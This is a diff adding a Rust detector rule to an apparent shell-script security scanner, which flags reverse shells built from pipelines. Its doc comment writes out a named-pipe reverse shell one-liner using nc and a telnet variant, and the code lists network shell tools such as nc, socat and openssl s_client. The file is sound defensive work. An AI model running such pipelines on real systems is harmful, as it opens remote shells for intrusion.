@@ -1,0 +1,59 @@
+//! Reverse shells built from pipelines: a shell in one stage, a network tool in another
+//! (`cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`, `telnet … | sh | telnet …`).
+
+use super::Hit;
+use crate::shell::nested::SHELLS;
+use crate::shell::{Command, Script};
+
+/// Programs that carry a byte stream over the network.
+const NETWORK_PIPES: &[&str] = &[
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "socat",
+    "cryptcat",
+    "nc.traditional",
+    "nc.openbsd",
+];
+
+fn is_network_pipe(cmd: &Command) -> bool {
+    NETWORK_PIPES.contains(&cmd.name())
+        || (cmd.name() == "openssl" && cmd.args().first().is_some_and(|a| a.text == "s_client"))
+}
+
+/// A shell that reads commands from its input (interactive or from stdin).
+fn is_stream_shell(cmd: &Command) -> bool {
+    SHELLS.contains(&cmd.name())
+        && (crate::shell::nested::reads_code_from_stdin(cmd)
+            || cmd.args().iter().any(|a| {
+                a.text.starts_with('-') && !a.text.starts_with("--") && a.text.contains('i')
+            }))
+}
+
+/// Report pipelines that join a stream-reading shell and a network tool.
+pub fn analyze(script: &Script) -> Vec<Hit> {
+    let mut hits = Vec::new();
+    for (pid, p) in script.pipelines.iter().enumerate() {
+        let mut shell = None;
+        let mut net = None;
+        for stage in 0..p.stages {
+            for c in script.stage(pid, stage) {
+                if is_stream_shell(c) {
+                    shell = Some(c.name().to_string());
+                }
+                if is_network_pipe(c) {
+                    net = Some(c.name().to_string());
+                }
+            }
+        }
+        if let (Some(sh), Some(net)) = (shell, net) {
+            hits.push(Hit {
+                rule_id: "revshell.shell-over-network",
+                span: p.span,
+                detail: Some(format!("`{sh}` reads commands through `{net}`")),
+            });
+        }
+    }
+    hits
+}
